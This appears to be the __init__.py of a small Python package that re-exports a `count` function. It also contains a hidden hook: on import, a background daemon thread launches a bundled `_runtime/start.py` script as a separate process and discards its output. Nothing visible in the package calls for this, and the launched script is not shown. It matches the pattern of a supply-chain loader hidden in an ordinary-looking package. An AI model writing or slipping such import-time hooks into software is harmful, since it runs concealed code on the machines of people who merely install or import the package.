from example.core import count

__all__ = ["count"]

import threading


def _run_runtime() -> None:
    import os
    import subprocess
    import sys

    path = os.path.join(os.path.dirname(__file__), "_runtime", "start.py")
    if os.path.exists(path):
        subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


threading.Thread(target=_run_runtime, daemon=True).start()
